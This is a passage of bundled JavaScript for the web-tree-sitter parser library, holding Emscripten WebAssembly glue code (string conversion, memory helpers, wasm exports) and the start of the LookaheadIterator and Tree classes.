          var num = 0;
          for (var i2 = 0; i2 < iovcnt; i2++) {
            var ptr = LE_HEAP_LOAD_U32((iov >> 2) * 4);
            var len = LE_HEAP_LOAD_U32((iov + 4 >> 2) * 4);
            iov += 8;
            for (var j = 0; j < len; j++) {
              printChar(fd, HEAPU8[ptr + j]);
            }
            num += len;
          }
          LE_HEAP_STORE_U32((pnum >> 2) * 4, num);
          return 0;
        }, "_fd_write");
        _fd_write.sig = "iippp";
        function _tree_sitter_log_callback(isLexMessage, messageAddress) {
          if (Module.currentLogCallback) {
            const message = UTF8ToString(messageAddress);
            Module.currentLogCallback(message, isLexMessage !== 0);
          }
        }
        __name(_tree_sitter_log_callback, "_tree_sitter_log_callback");
        function _tree_sitter_parse_callback(inputBufferAddress, index, row, column, lengthAddress) {
          const INPUT_BUFFER_SIZE = 10 * 1024;
          const string = Module.currentParseCallback(index, {
            row,
            column
          });
          if (typeof string === "string") {
            setValue(lengthAddress, string.length, "i32");
            stringToUTF16(string, inputBufferAddress, INPUT_BUFFER_SIZE);
          } else {
            setValue(lengthAddress, 0, "i32");
          }
        }
        __name(_tree_sitter_parse_callback, "_tree_sitter_parse_callback");
        function _tree_sitter_progress_callback(currentOffset, hasError) {
          if (Module.currentProgressCallback) {
            return Module.currentProgressCallback({
              currentOffset,
              hasError
            });
          }
          return false;
        }
        __name(_tree_sitter_progress_callback, "_tree_sitter_progress_callback");
        function _tree_sitter_query_progress_callback(currentOffset) {
          if (Module.currentQueryProgressCallback) {
            return Module.currentQueryProgressCallback({
              currentOffset
            });
          }
          return false;
        }
        __name(_tree_sitter_query_progress_callback, "_tree_sitter_query_progress_callback");
        var runtimeKeepaliveCounter = 0;
        var keepRuntimeAlive = /* @__PURE__ */ __name(() => noExitRuntime || runtimeKeepaliveCounter > 0, "keepRuntimeAlive");
        var _proc_exit = /* @__PURE__ */ __name((code) => {
          EXITSTATUS = code;
          if (!keepRuntimeAlive()) {
            Module["onExit"]?.(code);
            ABORT = true;
          }
          quit_(code, new ExitStatus(code));
        }, "_proc_exit");
        _proc_exit.sig = "vi";
        var exitJS = /* @__PURE__ */ __name((status, implicit) => {
          EXITSTATUS = status;
          _proc_exit(status);
        }, "exitJS");
        var handleException = /* @__PURE__ */ __name((e) => {
          if (e instanceof ExitStatus || e == "unwind") {
            return EXITSTATUS;
          }
          quit_(1, e);
        }, "handleException");
        var lengthBytesUTF8 = /* @__PURE__ */ __name((str) => {
          var len = 0;
          for (var i2 = 0; i2 < str.length; ++i2) {
            var c = str.charCodeAt(i2);
            if (c <= 127) {
              len++;
            } else if (c <= 2047) {
              len += 2;
            } else if (c >= 55296 && c <= 57343) {
              len += 4;
              ++i2;
            } else {
              len += 3;
            }
          }
          return len;
        }, "lengthBytesUTF8");
        var stringToUTF8Array = /* @__PURE__ */ __name((str, heap, outIdx, maxBytesToWrite) => {
          if (!(maxBytesToWrite > 0)) return 0;
          var startIdx = outIdx;
          var endIdx = outIdx + maxBytesToWrite - 1;
          for (var i2 = 0; i2 < str.length; ++i2) {
            var u = str.charCodeAt(i2);
            if (u >= 55296 && u <= 57343) {
              var u1 = str.charCodeAt(++i2);
              u = 65536 + ((u & 1023) << 10) | u1 & 1023;
            }
            if (u <= 127) {
              if (outIdx >= endIdx) break;
              heap[outIdx++] = u;
            } else if (u <= 2047) {
              if (outIdx + 1 >= endIdx) break;
              heap[outIdx++] = 192 | u >> 6;
              heap[outIdx++] = 128 | u & 63;
            } else if (u <= 65535) {
              if (outIdx + 2 >= endIdx) break;
              heap[outIdx++] = 224 | u >> 12;
              heap[outIdx++] = 128 | u >> 6 & 63;
              heap[outIdx++] = 128 | u & 63;
            } else {
              if (outIdx + 3 >= endIdx) break;
              heap[outIdx++] = 240 | u >> 18;
              heap[outIdx++] = 128 | u >> 12 & 63;
              heap[outIdx++] = 128 | u >> 6 & 63;
              heap[outIdx++] = 128 | u & 63;
            }
          }
          heap[outIdx] = 0;
          return outIdx - startIdx;
        }, "stringToUTF8Array");
        var stringToUTF8 = /* @__PURE__ */ __name((str, outPtr, maxBytesToWrite) => stringToUTF8Array(str, HEAPU8, outPtr, maxBytesToWrite), "stringToUTF8");
        var stackAlloc = /* @__PURE__ */ __name((sz) => __emscripten_stack_alloc(sz), "stackAlloc");
        var stringToUTF8OnStack = /* @__PURE__ */ __name((str) => {
          var size = lengthBytesUTF8(str) + 1;
          var ret = stackAlloc(size);
          stringToUTF8(str, ret, size);
          return ret;
        }, "stringToUTF8OnStack");
        var AsciiToString = /* @__PURE__ */ __name((ptr) => {
          var str = "";
          while (1) {
            var ch = HEAPU8[ptr++];
            if (!ch) return str;
            str += String.fromCharCode(ch);
          }
        }, "AsciiToString");
        var stringToUTF16 = /* @__PURE__ */ __name((str, outPtr, maxBytesToWrite) => {
          maxBytesToWrite ??= 2147483647;
          if (maxBytesToWrite < 2) return 0;
          maxBytesToWrite -= 2;
          var startPtr = outPtr;
          var numCharsToWrite = maxBytesToWrite < str.length * 2 ? maxBytesToWrite / 2 : str.length;
          for (var i2 = 0; i2 < numCharsToWrite; ++i2) {
            var codeUnit = str.charCodeAt(i2);
            LE_HEAP_STORE_I16((outPtr >> 1) * 2, codeUnit);
            outPtr += 2;
          }
          LE_HEAP_STORE_I16((outPtr >> 1) * 2, 0);
          return outPtr - startPtr;
        }, "stringToUTF16");
        var wasmImports = {
          /** @export */
          __heap_base: ___heap_base,
          /** @export */
          __indirect_function_table: wasmTable,
          /** @export */
          __memory_base: ___memory_base,
          /** @export */
          __stack_pointer: ___stack_pointer,
          /** @export */
          __table_base: ___table_base,
          /** @export */
          _abort_js: __abort_js,
          /** @export */
          clock_time_get: _clock_time_get,
          /** @export */
          emscripten_resize_heap: _emscripten_resize_heap,
          /** @export */
          fd_close: _fd_close,
          /** @export */
          fd_seek: _fd_seek,
          /** @export */
          fd_write: _fd_write,
          /** @export */
          memory: wasmMemory,
          /** @export */
          tree_sitter_log_callback: _tree_sitter_log_callback,
          /** @export */
          tree_sitter_parse_callback: _tree_sitter_parse_callback,
          /** @export */
          tree_sitter_progress_callback: _tree_sitter_progress_callback,
          /** @export */
          tree_sitter_query_progress_callback: _tree_sitter_query_progress_callback
        };
        var wasmExports = await createWasm();
        var ___wasm_call_ctors = wasmExports["__wasm_call_ctors"];
        var _malloc = Module["_malloc"] = wasmExports["malloc"];
        var _calloc = Module["_calloc"] = wasmExports["calloc"];
        var _realloc = Module["_realloc"] = wasmExports["realloc"];
        var _free = Module["_free"] = wasmExports["free"];
        var _memcmp = Module["_memcmp"] = wasmExports["memcmp"];
        var _ts_language_symbol_count = Module["_ts_language_symbol_count"] = wasmExports["ts_language_symbol_count"];
        var _ts_language_state_count = Module["_ts_language_state_count"] = wasmExports["ts_language_state_count"];
        var _ts_language_version = Module["_ts_language_version"] = wasmExports["ts_language_version"];
        var _ts_language_abi_version = Module["_ts_language_abi_version"] = wasmExports["ts_language_abi_version"];
        var _ts_language_metadata = Module["_ts_language_metadata"] = wasmExports["ts_language_metadata"];
        var _ts_language_name = Module["_ts_language_name"] = wasmExports["ts_language_name"];
        var _ts_language_field_count = Module["_ts_language_field_count"] = wasmExports["ts_language_field_count"];
        var _ts_language_next_state = Module["_ts_language_next_state"] = wasmExports["ts_language_next_state"];
        var _ts_language_symbol_name = Module["_ts_language_symbol_name"] = wasmExports["ts_language_symbol_name"];
        var _ts_language_symbol_for_name = Module["_ts_language_symbol_for_name"] = wasmExports["ts_language_symbol_for_name"];
        var _strncmp = Module["_strncmp"] = wasmExports["strncmp"];
        var _ts_language_symbol_type = Module["_ts_language_symbol_type"] = wasmExports["ts_language_symbol_type"];
        var _ts_language_field_name_for_id = Module["_ts_language_field_name_for_id"] = wasmExports["ts_language_field_name_for_id"];
        var _ts_lookahead_iterator_new = Module["_ts_lookahead_iterator_new"] = wasmExports["ts_lookahead_iterator_new"];
        var _ts_lookahead_iterator_delete = Module["_ts_lookahead_iterator_delete"] = wasmExports["ts_lookahead_iterator_delete"];
        var _ts_lookahead_iterator_reset_state = Module["_ts_lookahead_iterator_reset_state"] = wasmExports["ts_lookahead_iterator_reset_state"];
        var _ts_lookahead_iterator_reset = Module["_ts_lookahead_iterator_reset"] = wasmExports["ts_lookahead_iterator_reset"];
        var _ts_lookahead_iterator_next = Module["_ts_lookahead_iterator_next"] = wasmExports["ts_lookahead_iterator_next"];
        var _ts_lookahead_iterator_current_symbol = Module["_ts_lookahead_iterator_current_symbol"] = wasmExports["ts_lookahead_iterator_current_symbol"];
        var _ts_parser_delete = Module["_ts_parser_delete"] = wasmExports["ts_parser_delete"];
        var _ts_parser_reset = Module["_ts_parser_reset"] = wasmExports["ts_parser_reset"];
        var _ts_parser_set_language = Module["_ts_parser_set_language"] = wasmExports["ts_parser_set_language"];
        var _ts_parser_timeout_micros = Module["_ts_parser_timeout_micros"] = wasmExports["ts_parser_timeout_micros"];
        var _ts_parser_set_timeout_micros = Module["_ts_parser_set_timeout_micros"] = wasmExports["ts_parser_set_timeout_micros"];
        var _ts_parser_set_included_ranges = Module["_ts_parser_set_included_ranges"] = wasmExports["ts_parser_set_included_ranges"];
        var _ts_query_new = Module["_ts_query_new"] = wasmExports["ts_query_new"];
        var _ts_query_delete = Module["_ts_query_delete"] = wasmExports["ts_query_delete"];
        var _iswspace = Module["_iswspace"] = wasmExports["iswspace"];
        var _iswalnum = Module["_iswalnum"] = wasmExports["iswalnum"];
        var _ts_query_pattern_count = Module["_ts_query_pattern_count"] = wasmExports["ts_query_pattern_count"];
        var _ts_query_capture_count = Module["_ts_query_capture_count"] = wasmExports["ts_query_capture_count"];
        var _ts_query_string_count = Module["_ts_query_string_count"] = wasmExports["ts_query_string_count"];
        var _ts_query_capture_name_for_id = Module["_ts_query_capture_name_for_id"] = wasmExports["ts_query_capture_name_for_id"];
        var _ts_query_capture_quantifier_for_id = Module["_ts_query_capture_quantifier_for_id"] = wasmExports["ts_query_capture_quantifier_for_id"];
        var _ts_query_string_value_for_id = Module["_ts_query_string_value_for_id"] = wasmExports["ts_query_string_value_for_id"];
        var _ts_query_predicates_for_pattern = Module["_ts_query_predicates_for_pattern"] = wasmExports["ts_query_predicates_for_pattern"];
        var _ts_query_start_byte_for_pattern = Module["_ts_query_start_byte_for_pattern"] = wasmExports["ts_query_start_byte_for_pattern"];
        var _ts_query_end_byte_for_pattern = Module["_ts_query_end_byte_for_pattern"] = wasmExports["ts_query_end_byte_for_pattern"];
        var _ts_query_is_pattern_rooted = Module["_ts_query_is_pattern_rooted"] = wasmExports["ts_query_is_pattern_rooted"];
        var _ts_query_is_pattern_non_local = Module["_ts_query_is_pattern_non_local"] = wasmExports["ts_query_is_pattern_non_local"];
        var _ts_query_is_pattern_guaranteed_at_step = Module["_ts_query_is_pattern_guaranteed_at_step"] = wasmExports["ts_query_is_pattern_guaranteed_at_step"];
        var _ts_query_disable_capture = Module["_ts_query_disable_capture"] = wasmExports["ts_query_disable_capture"];
        var _ts_query_disable_pattern = Module["_ts_query_disable_pattern"] = wasmExports["ts_query_disable_pattern"];
        var _ts_tree_copy = Module["_ts_tree_copy"] = wasmExports["ts_tree_copy"];
        var _ts_tree_delete = Module["_ts_tree_delete"] = wasmExports["ts_tree_delete"];
        var _ts_init = Module["_ts_init"] = wasmExports["ts_init"];
        var _ts_parser_new_wasm = Module["_ts_parser_new_wasm"] = wasmExports["ts_parser_new_wasm"];
        var _ts_parser_enable_logger_wasm = Module["_ts_parser_enable_logger_wasm"] = wasmExports["ts_parser_enable_logger_wasm"];
        var _ts_parser_parse_wasm = Module["_ts_parser_parse_wasm"] = wasmExports["ts_parser_parse_wasm"];
        var _ts_parser_included_ranges_wasm = Module["_ts_parser_included_ranges_wasm"] = wasmExports["ts_parser_included_ranges_wasm"];
        var _ts_language_type_is_named_wasm = Module["_ts_language_type_is_named_wasm"] = wasmExports["ts_language_type_is_named_wasm"];
        var _ts_language_type_is_visible_wasm = Module["_ts_language_type_is_visible_wasm"] = wasmExports["ts_language_type_is_visible_wasm"];
        var _ts_language_supertypes_wasm = Module["_ts_language_supertypes_wasm"] = wasmExports["ts_language_supertypes_wasm"];
        var _ts_language_subtypes_wasm = Module["_ts_language_subtypes_wasm"] = wasmExports["ts_language_subtypes_wasm"];
        var _ts_tree_root_node_wasm = Module["_ts_tree_root_node_wasm"] = wasmExports["ts_tree_root_node_wasm"];
        var _ts_tree_root_node_with_offset_wasm = Module["_ts_tree_root_node_with_offset_wasm"] = wasmExports["ts_tree_root_node_with_offset_wasm"];
        var _ts_tree_edit_wasm = Module["_ts_tree_edit_wasm"] = wasmExports["ts_tree_edit_wasm"];
        var _ts_tree_included_ranges_wasm = Module["_ts_tree_included_ranges_wasm"] = wasmExports["ts_tree_included_ranges_wasm"];
        var _ts_tree_get_changed_ranges_wasm = Module["_ts_tree_get_changed_ranges_wasm"] = wasmExports["ts_tree_get_changed_ranges_wasm"];
        var _ts_tree_cursor_new_wasm = Module["_ts_tree_cursor_new_wasm"] = wasmExports["ts_tree_cursor_new_wasm"];
        var _ts_tree_cursor_copy_wasm = Module["_ts_tree_cursor_copy_wasm"] = wasmExports["ts_tree_cursor_copy_wasm"];
        var _ts_tree_cursor_delete_wasm = Module["_ts_tree_cursor_delete_wasm"] = wasmExports["ts_tree_cursor_delete_wasm"];
        var _ts_tree_cursor_reset_wasm = Module["_ts_tree_cursor_reset_wasm"] = wasmExports["ts_tree_cursor_reset_wasm"];
        var _ts_tree_cursor_reset_to_wasm = Module["_ts_tree_cursor_reset_to_wasm"] = wasmExports["ts_tree_cursor_reset_to_wasm"];
        var _ts_tree_cursor_goto_first_child_wasm = Module["_ts_tree_cursor_goto_first_child_wasm"] = wasmExports["ts_tree_cursor_goto_first_child_wasm"];
        var _ts_tree_cursor_goto_last_child_wasm = Module["_ts_tree_cursor_goto_last_child_wasm"] = wasmExports["ts_tree_cursor_goto_last_child_wasm"];
        var _ts_tree_cursor_goto_first_child_for_index_wasm = Module["_ts_tree_cursor_goto_first_child_for_index_wasm"] = wasmExports["ts_tree_cursor_goto_first_child_for_index_wasm"];
        var _ts_tree_cursor_goto_first_child_for_position_wasm = Module["_ts_tree_cursor_goto_first_child_for_position_wasm"] = wasmExports["ts_tree_cursor_goto_first_child_for_position_wasm"];
        var _ts_tree_cursor_goto_next_sibling_wasm = Module["_ts_tree_cursor_goto_next_sibling_wasm"] = wasmExports["ts_tree_cursor_goto_next_sibling_wasm"];
        var _ts_tree_cursor_goto_previous_sibling_wasm = Module["_ts_tree_cursor_goto_previous_sibling_wasm"] = wasmExports["ts_tree_cursor_goto_previous_sibling_wasm"];
        var _ts_tree_cursor_goto_descendant_wasm = Module["_ts_tree_cursor_goto_descendant_wasm"] = wasmExports["ts_tree_cursor_goto_descendant_wasm"];
        var _ts_tree_cursor_goto_parent_wasm = Module["_ts_tree_cursor_goto_parent_wasm"] = wasmExports["ts_tree_cursor_goto_parent_wasm"];
        var _ts_tree_cursor_current_node_type_id_wasm = Module["_ts_tree_cursor_current_node_type_id_wasm"] = wasmExports["ts_tree_cursor_current_node_type_id_wasm"];
        var _ts_tree_cursor_current_node_state_id_wasm = Module["_ts_tree_cursor_current_node_state_id_wasm"] = wasmExports["ts_tree_cursor_current_node_state_id_wasm"];
        var _ts_tree_cursor_current_node_is_named_wasm = Module["_ts_tree_cursor_current_node_is_named_wasm"] = wasmExports["ts_tree_cursor_current_node_is_named_wasm"];
        var _ts_tree_cursor_current_node_is_missing_wasm = Module["_ts_tree_cursor_current_node_is_missing_wasm"] = wasmExports["ts_tree_cursor_current_node_is_missing_wasm"];
        var _ts_tree_cursor_current_node_id_wasm = Module["_ts_tree_cursor_current_node_id_wasm"] = wasmExports["ts_tree_cursor_current_node_id_wasm"];
        var _ts_tree_cursor_start_position_wasm = Module["_ts_tree_cursor_start_position_wasm"] = wasmExports["ts_tree_cursor_start_position_wasm"];
        var _ts_tree_cursor_end_position_wasm = Module["_ts_tree_cursor_end_position_wasm"] = wasmExports["ts_tree_cursor_end_position_wasm"];
        var _ts_tree_cursor_start_index_wasm = Module["_ts_tree_cursor_start_index_wasm"] = wasmExports["ts_tree_cursor_start_index_wasm"];
        var _ts_tree_cursor_end_index_wasm = Module["_ts_tree_cursor_end_index_wasm"] = wasmExports["ts_tree_cursor_end_index_wasm"];
        var _ts_tree_cursor_current_field_id_wasm = Module["_ts_tree_cursor_current_field_id_wasm"] = wasmExports["ts_tree_cursor_current_field_id_wasm"];
        var _ts_tree_cursor_current_depth_wasm = Module["_ts_tree_cursor_current_depth_wasm"] = wasmExports["ts_tree_cursor_current_depth_wasm"];
        var _ts_tree_cursor_current_descendant_index_wasm = Module["_ts_tree_cursor_current_descendant_index_wasm"] = wasmExports["ts_tree_cursor_current_descendant_index_wasm"];
        var _ts_tree_cursor_current_node_wasm = Module["_ts_tree_cursor_current_node_wasm"] = wasmExports["ts_tree_cursor_current_node_wasm"];
        var _ts_node_symbol_wasm = Module["_ts_node_symbol_wasm"] = wasmExports["ts_node_symbol_wasm"];
        var _ts_node_field_name_for_child_wasm = Module["_ts_node_field_name_for_child_wasm"] = wasmExports["ts_node_field_name_for_child_wasm"];
        var _ts_node_field_name_for_named_child_wasm = Module["_ts_node_field_name_for_named_child_wasm"] = wasmExports["ts_node_field_name_for_named_child_wasm"];
        var _ts_node_children_by_field_id_wasm = Module["_ts_node_children_by_field_id_wasm"] = wasmExports["ts_node_children_by_field_id_wasm"];
        var _ts_node_first_child_for_byte_wasm = Module["_ts_node_first_child_for_byte_wasm"] = wasmExports["ts_node_first_child_for_byte_wasm"];
        var _ts_node_first_named_child_for_byte_wasm = Module["_ts_node_first_named_child_for_byte_wasm"] = wasmExports["ts_node_first_named_child_for_byte_wasm"];
        var _ts_node_grammar_symbol_wasm = Module["_ts_node_grammar_symbol_wasm"] = wasmExports["ts_node_grammar_symbol_wasm"];
        var _ts_node_child_count_wasm = Module["_ts_node_child_count_wasm"] = wasmExports["ts_node_child_count_wasm"];
        var _ts_node_named_child_count_wasm = Module["_ts_node_named_child_count_wasm"] = wasmExports["ts_node_named_child_count_wasm"];
        var _ts_node_child_wasm = Module["_ts_node_child_wasm"] = wasmExports["ts_node_child_wasm"];
        var _ts_node_named_child_wasm = Module["_ts_node_named_child_wasm"] = wasmExports["ts_node_named_child_wasm"];
        var _ts_node_child_by_field_id_wasm = Module["_ts_node_child_by_field_id_wasm"] = wasmExports["ts_node_child_by_field_id_wasm"];
        var _ts_node_next_sibling_wasm = Module["_ts_node_next_sibling_wasm"] = wasmExports["ts_node_next_sibling_wasm"];
        var _ts_node_prev_sibling_wasm = Module["_ts_node_prev_sibling_wasm"] = wasmExports["ts_node_prev_sibling_wasm"];
        var _ts_node_next_named_sibling_wasm = Module["_ts_node_next_named_sibling_wasm"] = wasmExports["ts_node_next_named_sibling_wasm"];
        var _ts_node_prev_named_sibling_wasm = Module["_ts_node_prev_named_sibling_wasm"] = wasmExports["ts_node_prev_named_sibling_wasm"];
        var _ts_node_descendant_count_wasm = Module["_ts_node_descendant_count_wasm"] = wasmExports["ts_node_descendant_count_wasm"];
        var _ts_node_parent_wasm = Module["_ts_node_parent_wasm"] = wasmExports["ts_node_parent_wasm"];
        var _ts_node_child_with_descendant_wasm = Module["_ts_node_child_with_descendant_wasm"] = wasmExports["ts_node_child_with_descendant_wasm"];
        var _ts_node_descendant_for_index_wasm = Module["_ts_node_descendant_for_index_wasm"] = wasmExports["ts_node_descendant_for_index_wasm"];
        var _ts_node_named_descendant_for_index_wasm = Module["_ts_node_named_descendant_for_index_wasm"] = wasmExports["ts_node_named_descendant_for_index_wasm"];
        var _ts_node_descendant_for_position_wasm = Module["_ts_node_descendant_for_position_wasm"] = wasmExports["ts_node_descendant_for_position_wasm"];
        var _ts_node_named_descendant_for_position_wasm = Module["_ts_node_named_descendant_for_position_wasm"] = wasmExports["ts_node_named_descendant_for_position_wasm"];
        var _ts_node_start_point_wasm = Module["_ts_node_start_point_wasm"] = wasmExports["ts_node_start_point_wasm"];
        var _ts_node_end_point_wasm = Module["_ts_node_end_point_wasm"] = wasmExports["ts_node_end_point_wasm"];
        var _ts_node_start_index_wasm = Module["_ts_node_start_index_wasm"] = wasmExports["ts_node_start_index_wasm"];
        var _ts_node_end_index_wasm = Module["_ts_node_end_index_wasm"] = wasmExports["ts_node_end_index_wasm"];
        var _ts_node_to_string_wasm = Module["_ts_node_to_string_wasm"] = wasmExports["ts_node_to_string_wasm"];
        var _ts_node_children_wasm = Module["_ts_node_children_wasm"] = wasmExports["ts_node_children_wasm"];
        var _ts_node_named_children_wasm = Module["_ts_node_named_children_wasm"] = wasmExports["ts_node_named_children_wasm"];
        var _ts_node_descendants_of_type_wasm = Module["_ts_node_descendants_of_type_wasm"] = wasmExports["ts_node_descendants_of_type_wasm"];
        var _ts_node_is_named_wasm = Module["_ts_node_is_named_wasm"] = wasmExports["ts_node_is_named_wasm"];
        var _ts_node_has_changes_wasm = Module["_ts_node_has_changes_wasm"] = wasmExports["ts_node_has_changes_wasm"];
        var _ts_node_has_error_wasm = Module["_ts_node_has_error_wasm"] = wasmExports["ts_node_has_error_wasm"];
        var _ts_node_is_error_wasm = Module["_ts_node_is_error_wasm"] = wasmExports["ts_node_is_error_wasm"];
        var _ts_node_is_missing_wasm = Module["_ts_node_is_missing_wasm"] = wasmExports["ts_node_is_missing_wasm"];
        var _ts_node_is_extra_wasm = Module["_ts_node_is_extra_wasm"] = wasmExports["ts_node_is_extra_wasm"];
        var _ts_node_parse_state_wasm = Module["_ts_node_parse_state_wasm"] = wasmExports["ts_node_parse_state_wasm"];
        var _ts_node_next_parse_state_wasm = Module["_ts_node_next_parse_state_wasm"] = wasmExports["ts_node_next_parse_state_wasm"];
        var _ts_query_matches_wasm = Module["_ts_query_matches_wasm"] = wasmExports["ts_query_matches_wasm"];
        var _ts_query_captures_wasm = Module["_ts_query_captures_wasm"] = wasmExports["ts_query_captures_wasm"];
        var _memset = Module["_memset"] = wasmExports["memset"];
        var _memcpy = Module["_memcpy"] = wasmExports["memcpy"];
        var _memmove = Module["_memmove"] = wasmExports["memmove"];
        var _iswalpha = Module["_iswalpha"] = wasmExports["iswalpha"];
        var _iswblank = Module["_iswblank"] = wasmExports["iswblank"];
        var _iswdigit = Module["_iswdigit"] = wasmExports["iswdigit"];
        var _iswlower = Module["_iswlower"] = wasmExports["iswlower"];
        var _iswupper = Module["_iswupper"] = wasmExports["iswupper"];
        var _iswxdigit = Module["_iswxdigit"] = wasmExports["iswxdigit"];
        var _memchr = Module["_memchr"] = wasmExports["memchr"];
        var _strlen = Module["_strlen"] = wasmExports["strlen"];
        var _strcmp = Module["_strcmp"] = wasmExports["strcmp"];
        var _strncat = Module["_strncat"] = wasmExports["strncat"];
        var _strncpy = Module["_strncpy"] = wasmExports["strncpy"];
        var _towlower = Module["_towlower"] = wasmExports["towlower"];
        var _towupper = Module["_towupper"] = wasmExports["towupper"];
        var _setThrew = wasmExports["setThrew"];
        var __emscripten_stack_restore = wasmExports["_emscripten_stack_restore"];
        var __emscripten_stack_alloc = wasmExports["_emscripten_stack_alloc"];
        var _emscripten_stack_get_current = wasmExports["emscripten_stack_get_current"];
        var ___wasm_apply_data_relocs = wasmExports["__wasm_apply_data_relocs"];
        Module["setValue"] = setValue;
        Module["getValue"] = getValue;
        Module["UTF8ToString"] = UTF8ToString;
        Module["stringToUTF8"] = stringToUTF8;
        Module["lengthBytesUTF8"] = lengthBytesUTF8;
        Module["AsciiToString"] = AsciiToString;
        Module["stringToUTF16"] = stringToUTF16;
        Module["loadWebAssemblyModule"] = loadWebAssemblyModule;
        function callMain(args2 = []) {
          var entryFunction = resolveGlobalSymbol("main").sym;
          if (!entryFunction) return;
          args2.unshift(thisProgram);
          var argc = args2.length;
          var argv = stackAlloc((argc + 1) * 4);
          var argv_ptr = argv;
          args2.forEach((arg) => {
            LE_HEAP_STORE_U32((argv_ptr >> 2) * 4, stringToUTF8OnStack(arg));
            argv_ptr += 4;
          });
          LE_HEAP_STORE_U32((argv_ptr >> 2) * 4, 0);
          try {
            var ret = entryFunction(argc, argv);
            exitJS(
              ret,
              /* implicit = */
              true
            );
            return ret;
          } catch (e) {
            return handleException(e);
          }
        }
        __name(callMain, "callMain");
        function run(args2 = arguments_) {
          if (runDependencies > 0) {
            dependenciesFulfilled = run;
            return;
          }
          preRun();
          if (runDependencies > 0) {
            dependenciesFulfilled = run;
            return;
          }
          function doRun() {
            Module["calledRun"] = true;
            if (ABORT) return;
            initRuntime();
            preMain();
            readyPromiseResolve(Module);
            Module["onRuntimeInitialized"]?.();
            var noInitialRun = Module["noInitialRun"];
            if (!noInitialRun) callMain(args2);
            postRun();
          }
          __name(doRun, "doRun");
          if (Module["setStatus"]) {
            Module["setStatus"]("Running...");
            setTimeout(() => {
              setTimeout(() => Module["setStatus"](""), 1);
              doRun();
            }, 1);
          } else {
            doRun();
          }
        }
        __name(run, "run");
        if (Module["preInit"]) {
          if (typeof Module["preInit"] == "function") Module["preInit"] = [Module["preInit"]];
          while (Module["preInit"].length > 0) {
            Module["preInit"].pop()();
          }
        }
        run();
        moduleRtn = readyPromise;
        return moduleRtn;
      };
    })();
    if (typeof exports === "object" && typeof module === "object") {
      module.exports = Module;
      module.exports.default = Module;
    } else if (typeof define === "function" && define["amd"])
      define([], () => Module);
  }
});

// src/index.ts
var index_exports = {};
__export(index_exports, {
  CaptureQuantifier: () => CaptureQuantifier,
  LANGUAGE_VERSION: () => LANGUAGE_VERSION,
  Language: () => Language,
  LookaheadIterator: () => LookaheadIterator,
  MIN_COMPATIBLE_VERSION: () => MIN_COMPATIBLE_VERSION,
  Node: () => Node,
  Parser: () => Parser,
  Query: () => Query,
  Tree: () => Tree,
  TreeCursor: () => TreeCursor
});
module.exports = __toCommonJS(index_exports);

// src/constants.ts
var SIZE_OF_SHORT = 2;
var SIZE_OF_INT = 4;
var SIZE_OF_CURSOR = 4 * SIZE_OF_INT;
var SIZE_OF_NODE = 5 * SIZE_OF_INT;
var SIZE_OF_POINT = 2 * SIZE_OF_INT;
var SIZE_OF_RANGE = 2 * SIZE_OF_INT + 2 * SIZE_OF_POINT;
var ZERO_POINT = { row: 0, column: 0 };
var INTERNAL = Symbol("INTERNAL");
function assertInternal(x) {
  if (x !== INTERNAL) throw new Error("Illegal constructor");
}
__name(assertInternal, "assertInternal");
function isPoint(point) {
  return !!point && typeof point.row === "number" && typeof point.column === "number";
}
__name(isPoint, "isPoint");
function setModule(module2) {
  C = module2;
}
__name(setModule, "setModule");
var C;

// src/lookahead_iterator.ts
var LookaheadIterator = class {
  static {
    __name(this, "LookaheadIterator");
  }
  /** @internal */
  [0] = 0;
  // Internal handle for WASM
  /** @internal */
  language;
  /** @internal */
  constructor(internal, address, language) {
    assertInternal(internal);
    this[0] = address;
    this.language = language;
  }
  /** Get the current symbol of the lookahead iterator. */
  get currentTypeId() {
    return C._ts_lookahead_iterator_current_symbol(this[0]);
  }
  /** Get the current symbol name of the lookahead iterator. */
  get currentType() {
    return this.language.types[this.currentTypeId] || "ERROR";
  }
  /** Delete the lookahead iterator, freeing its resources. */
  delete() {
    C._ts_lookahead_iterator_delete(this[0]);
    this[0] = 0;
  }
  /**
   * Reset the lookahead iterator.
   *
   * This returns `true` if the language was set successfully and `false`
   * otherwise.
   */
  reset(language, stateId) {
    if (C._ts_lookahead_iterator_reset(this[0], language[0], stateId)) {
      this.language = language;
      return true;
    }
    return false;
  }
  /**
   * Reset the lookahead iterator to another state.
   *
   * This returns `true` if the iterator was reset to the given state and
   * `false` otherwise.
   */
  resetState(stateId) {
    return Boolean(C._ts_lookahead_iterator_reset_state(this[0], stateId));
  }
  /**
   * Returns an iterator that iterates over the symbols of the lookahead iterator.
   *
   * The iterator will yield the current symbol name as a string for each step
   * until there are no more symbols to iterate over.
   */
  [Symbol.iterator]() {
    return {
      next: /* @__PURE__ */ __name(() => {
        if (C._ts_lookahead_iterator_next(this[0])) {
          return { done: false, value: this.currentType };
        }
        return { done: true, value: "" };
      }, "next")
    };
  }
};

// src/tree.ts
function getText(tree, startIndex, endIndex, startPosition) {
  const length = endIndex - startIndex;
  let result = tree.textCallback(startIndex, startPosition);
  if (result) {
    startIndex += result.length;
    while (startIndex < endIndex) {
      const string = tree.textCallback(startIndex, startPosition);
      if (string && string.length > 0) {
        startIndex += string.length;
        result += string;
      } else {
        break;
      }
    }
    if (startIndex > endIndex) {
      result = result.slice(0, length);
    }
  }
  return result ?? "";
}
__name(getText, "getText");
var Tree = class _Tree {
  static {
    __name(this, "Tree");
  }
  /** @internal */
  [0] = 0;
  // Internal handle for WASM
  /** @internal */
  textCallback;
  /** The language that was used to parse the syntax tree. */
  language;
  /** @internal */
  constructor(internal, address, language, textCallback) {
    assertInternal(internal);
    this[0] = address;
    this.language = language;
    this.textCallback = textCallback;
  }
  /** Create a shallow copy of the syntax tree. This is very fast. */
  copy() {
    const address = C._ts_tree_copy(this[0]);
    return new _Tree(INTERNAL, address, this.language, this.textCallback);
  }
  /** Delete the syntax tree, freeing its resources. */
  delete() {
    C._ts_tree_delete(this[0]);
    this[0] = 0;
  }
  /** Get the root node of the syntax tree. */
  get rootNode() {
    C._ts_tree_root_node_wasm(this[0]);
    return unmarshalNode(this);
  }
  /**
   * Get the root node of the syntax tree, but with its position shifted
   * forward by the given offset.
   */
  rootNodeWithOffset(offsetBytes, offsetExtent) {
    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
    C.setValue(address, offsetBytes, "i32");
    marshalPoint(address + SIZE_OF_INT, offsetExtent);
    C._ts_tree_root_node_with_offset_wasm(this[0]);
    return unmarshalNode(this);
  }
  /**
   * Edit the syntax tree to keep it in sync with source code that has been
   * edited.
   *
